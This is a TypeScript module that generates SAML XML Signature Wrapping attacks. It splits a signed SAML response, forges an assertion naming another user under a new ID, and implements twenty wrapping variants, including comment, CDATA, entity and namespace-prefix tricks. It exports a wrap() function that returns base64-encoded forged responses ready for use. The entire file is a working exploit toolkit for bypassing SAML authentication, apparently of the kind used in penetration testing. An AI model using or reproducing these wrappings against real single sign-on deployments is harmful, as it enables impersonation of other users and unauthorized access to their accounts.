/** The parts of a response: the signed assertion, and the attacker's changed copy of it. */
interface Parts {
  readonly response: string;
  /** The assertion with its signature. */
  readonly signed: string;
  readonly signature: string;
  /** The assertion without its signature. */
  readonly bare: string;
  /** Names another person, under another id and without a signature. */
  readonly forged: string;
}

type Wrapping = (parts: Parts) => string;

function takeApart(response: string, forge: (assertion: string) => string): Parts {
  const signed = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)?.[0] ?? '';
  const signature = /<ds:Signature .*<\/ds:Signature>/s.exec(signed)?.[0] ?? '';
  if (!signed || !signature) throw new Error('The response has no signed assertion to wrap.');
  const bare = signed.replace(signature, '');
  const forged = forge(bare).replace(/ ID="[^"]*"/, ' ID="_forged"');
  return { response, signed, signature, bare, forged };
}

const withAssertions = ({ response, signed }: Parts, assertions: string) => response.replace(signed, () => assertions);
const inside = (assertion: string, more: string) =>
  assertion.replace('</saml:Assertion>', () => `${more}</saml:Assertion>`);
const signedBy = (assertion: string, signature: string) =>
  assertion.replace('<saml:Subject>', () => `${signature}<saml:Subject>`);
const holding = (signature: string, held: string) =>
  signature.replace('</ds:Signature>', () => `<ds:Object>${held}</ds:Object></ds:Signature>`);
const idOf = (assertion: string) => / ID="([^"]*)"/.exec(assertion)?.[1] ?? '';
/** A response with the forged assertion in it, under another id. */
const forgedResponse = (parts: Parts, more: string) =>
  withAssertions(parts, parts.forged)
    .replace(/ ID="[^"]*"/, ' ID="_forged-response"')
    .replace('</samlp:Response>', () => `${more}</samlp:Response>`);
const withoutDeclaration = (xml: string) => xml.replace(/^<\?xml[^>]*\?>/, '');

/** Signature wrapping attacks: XSW1 to XSW8 under their usual names, and others. */
const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  'XSW1: the signed response within the signature of a forged one': (parts) =>
    forgedResponse(parts, holding(parts.signature, withoutDeclaration(parts.response))),
  'XSW2: the signed response beside a detached signature': (parts) =>
    forgedResponse(parts, `${withoutDeclaration(parts.response)}${parts.signature}`),
  'XSW3: a forged assertion before the signed one': (parts) => withAssertions(parts, parts.forged + parts.signed),
  'XSW4: the signed assertion within a forged one': (parts) =>
    withAssertions(parts, inside(parts.forged, parts.signed)),
  'XSW5: the signature on a forged assertion, the signed one after it': (parts) =>
    withAssertions(parts, signedBy(parts.forged, parts.signature) + parts.bare),
  'XSW6: the signed assertion within the signature on a forged one': (parts) =>
    withAssertions(parts, signedBy(parts.forged, holding(parts.signature, parts.bare))),
  'XSW7: a forged assertion among the extensions': (parts) =>
    withAssertions(parts, `<samlp:Extensions>${parts.forged}</samlp:Extensions>${parts.signed}`),
  'XSW8: the signed assertion within an object of the signature on a forged one': (parts) =>
    withAssertions(parts, signedBy(parts.forged, holding(parts.signature, `<x>${parts.bare}</x>`))),
  'XSW9: a forged assertion after the signed one': (parts) => withAssertions(parts, parts.signed + parts.forged),
  'XSW10: a forged assertion with the signed one’s id before it': (parts) =>
    withAssertions(parts, parts.forged.replace('_forged', idOf(parts.signed)) + parts.signed),
  'XSW11: a forged assertion with the signed one’s id after it': (parts) =>
    withAssertions(parts, parts.signed + parts.forged.replace('_forged', idOf(parts.signed))),
  'XSW12: the signed assertion in the detail of the status': (parts) =>
    withAssertions(parts, parts.forged).replace(
      '</samlp:Status>',
      () => `<samlp:StatusDetail>${parts.signed}</samlp:StatusDetail></samlp:Status>`,
    ),
  'XSW13: the signed assertion as data of the confirmation': (parts) =>
    withAssertions(
      parts,
      parts.forged.replace(
        /(<saml:SubjectConfirmationData[^>]*)\/>/,
        (_all, start: string) => `${start}>${parts.signed}</saml:SubjectConfirmationData>`,
      ),
    ),
  'XSW14: a forged assertion under another prefix': (parts) =>
    withAssertions(
      parts,
      parts.forged
        .replaceAll('saml:', 'evil:')
        .replace('<evil:Assertion', '<evil:Assertion xmlns:evil="urn:oasis:names:tc:SAML:2.0:assertion"') +
        parts.signed,
    ),
  'XSW15: a forged assertion under no prefix': (parts) =>
    withAssertions(
      parts,
      parts.forged
        .replaceAll('saml:', '')
        .replace('<Assertion', '<Assertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion"') + parts.signed,
    ),
  'XSW16: the signed assertion in a comment': (parts) =>
    withAssertions(parts, `<!--${parts.signed}-->${signedBy(parts.forged, parts.signature)}`),
  'XSW17: the signed assertion as text': (parts) =>
    withAssertions(parts, `${signedBy(parts.forged, parts.signature)}<x><![CDATA[${parts.signed}]]></x>`),
  'XSW18: a forged assertion in an entity': (parts) =>
    `<!DOCTYPE r [<!ENTITY a "${parts.forged.replaceAll('"', "'").replaceAll('<', '&#60;')}">]>${withoutDeclaration(withAssertions(parts, `&a;${parts.signed}`))}`,
  'XSW19: the signature on a forged assertion alone': (parts) =>
    withAssertions(parts, signedBy(parts.forged, parts.signature).replace('_forged', idOf(parts.signed))),
  'XSW20: a reference to nothing': (parts) =>
    withAssertions(parts, signedBy(parts.forged, parts.signature.replace(/URI="[^"]*"/, 'URI=""'))),
};

export const wrappings = Object.keys(WRAPPINGS);

/**
 * Wraps a signed response: the signed assertion stays valid in it, and a careless reader takes the forged one.
 *
 * @param response base64
 * @param forge makes the attacker's assertion of the signed one
 * @returns base64
 */
export function wrap(name: string, response: string, forge: (assertion: string) => string): string {
  const parts = takeApart(Buffer.from(response, 'base64').toString('utf8'), forge);
  const wrapped = WRAPPINGS[name]?.(parts) ?? '';
  if (!wrapped.includes('eve') && !wrapped.includes('&a;')) throw new Error(`${name} says nothing forged.`);
  return Buffer.from(wrapped).toString('base64');
}
